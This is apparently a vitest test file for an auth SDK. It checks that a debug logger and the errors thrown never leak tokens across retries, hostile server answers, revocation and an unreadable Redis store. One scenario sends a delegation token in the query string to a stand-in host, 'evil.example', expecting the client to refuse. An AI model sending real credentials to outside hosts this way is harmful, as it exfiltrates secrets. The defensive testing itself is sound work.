// Every call the SDK makes to an injected logger at debug, through success, retries, refusals and hostile answers: no secret.

import { randomBytes } from 'node:crypto';
import { inspect } from 'node:util';
import * as core from '@authsec/core';
import * as redisPackage from '@authsec/redis';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LeakEnvironment, startLeakEnvironment } from '../support/environment.js';
import { expectNoLeak } from '../support/secrets.js';
import { showEveryWay } from '../support/show.js';

let env: LeakEnvironment;
let redis: Redis;
const closers: Array<() => Promise<unknown> | unknown> = [];
/** Every logger call, as `[level, message, fields]`. */
const calls: unknown[][] = [];
const logger: core.Logger = {
  error: (message, fields) => calls.push(['error', message, fields]),
  warn: (message, fields) => calls.push(['warn', message, fields]),
  info: (message, fields) => calls.push(['info', message, fields]),
  debug: (message, fields) => calls.push(['debug', message, fields]),
};
/** Every error a scenario threw. */
const thrown: { label: string; error: unknown }[] = [];

beforeAll(async () => {
  env = await startLeakEnvironment();
  closers.push(() => env.close());
  redis = env.redis;
}, 120_000);

afterAll(async () => {
  for (const close of closers.reverse()) await close();
});

/** A fresh read:records agent's client at debug, logging to `logger`, its token in Redis. */
async function debugClient(key: string, extra: Partial<core.AuthSecClientOptions> = {}) {
  const { authsec, api } = env.demo;
  const agent = await authsec.createDelegatedAgent({ permissions: ['read:records'] });
  env.secrets.add('agent delegation token', agent.delegation.token);
  env.secrets.add('agent session credential', agent.session.token);
  const store = new redisPackage.RedisTokenStore({
    redis,
    key,
    logger,
    prefix: `leaks:${agent.agent.clientId}:`,
  });
  const client = new core.AuthSecClient({
    baseUrl: authsec.url,
    clientId: agent.agent.clientId,
    sessionToken: agent.session.token,
    downstreamUrl: api.url,
    headers: { 'x-api-key': env.apiKey },
    logLevel: 'debug',
    logger,
    store,
    env: {},
    ...extra,
  });
  closers.push(
    () => client.close(),
    () => store.close(),
  );
  return { agent, client, store };
}

async function expectFailure(label: string, work: () => Promise<unknown>): Promise<void> {
  try {
    await work();
  } catch (error) {
    thrown.push({ label, error });
    return;
  }
  throw new Error(`${label}: expected a failure, it succeeded`);
}

describe('an injected logger at debug', () => {
  it('receives no secret through retries, requests, refusals, revocation, hostile AuthSec answers and an unreadable store', async () => {
    const key = randomBytes(32).toString('base64');
    env.secrets.add('AUTHSEC_STORE_KEY', key);
    const { authsec } = env.demo;

    // A 503 whose body quotes the session credential, then the token.
    const first = await debugClient(key, { maxRetries: 2 });
    authsec.injectPullFault(
      {
        type: 'status',
        status: 503,
        body: { error: `upstream refused Bearer ${first.agent.session.token}` },
        retryAfter: 0,
      },
      { times: 1 },
    );
    await first.client.getDelegationToken();
    await first.client.requestJson('/secure-vault/records');
    await expectFailure('403 from the API', () => first.client.request('/billing/customers/42'));
    await expectFailure('origin not allowed, token in the query', () =>
      first.client.fetch(`https://evil.example/x?access_token=${first.agent.delegation.token}`),
    );
    authsec.revoke(first.agent.agent.clientId);
    await expectFailure('revoked: 401 then 404', () =>
      first.client.request('/secure-vault/records'),
    );

    // AuthSec answers that quote the token: not JSON, and a 500 with it in the body.
    const second = await debugClient(key, { maxRetries: 0 });
    authsec.injectPullFault(
      {
        type: 'raw',
        status: 200,
        contentType: 'text/plain',
        body: `token=${second.agent.delegation.token}`,
      },
      { times: 1 },
    );
    await expectFailure('a 200 that is not JSON and holds the token', () =>
      second.client.getDelegationToken(),
    );
    authsec.injectPullFault(
      {
        type: 'status',
        status: 500,
        body: { error: 'internal', token: second.agent.delegation.token },
      },
      { times: 1 },
    );
    await expectFailure('a 500 whose body holds the token', () =>
      second.client.getDelegationToken(),
    );

    // A process with another key meets the sealed token: warned as unreadable.
    const third = await debugClient(key);
    await third.client.getDelegationToken();
    const otherKey = randomBytes(32).toString('base64');
    env.secrets.add('another AUTHSEC_STORE_KEY', otherKey);
    const stranger = new redisPackage.RedisTokenStore({
      redis,
      key: otherKey,
      logger,
      prefix: `leaks:${third.agent.agent.clientId}:`,
    });
    closers.push(() => stranger.close());
    const strangerClient = new core.AuthSecClient({
      baseUrl: authsec.url,
      clientId: third.agent.agent.clientId,
      sessionToken: third.agent.session.token,
      logLevel: 'debug',
      logger,
      store: stranger,
      env: {},
    });
    closers.push(() => strangerClient.close());
    await strangerClient.getDelegationToken();

    // The scenarios happened, and were logged.
    expect(thrown).toHaveLength(5);
    expect(calls.length).toBeGreaterThan(10);
    const levels = new Set(calls.map(([level]) => level));
    for (const level of ['info', 'warn']) expect(levels.has(level), level).toBe(true);
    expect(JSON.stringify(calls)).toMatch(/Retry|retry/);
    expect(JSON.stringify(calls)).toMatch(/could not open a stored token/);

    expectNoLeak('the logger calls as JSON', JSON.stringify(calls), env.secrets);
    expectNoLeak(
      'the logger calls inspected',
      inspect(calls, { depth: Infinity, showHidden: true }),
      env.secrets,
    );
    for (const { label, error } of thrown) {
      expect(core.isAuthSecError(error), label).toBe(true);
      for (const [how, text] of showEveryWay(error))
        expectNoLeak(`${label}: ${how}`, text, env.secrets);
    }
  });
});
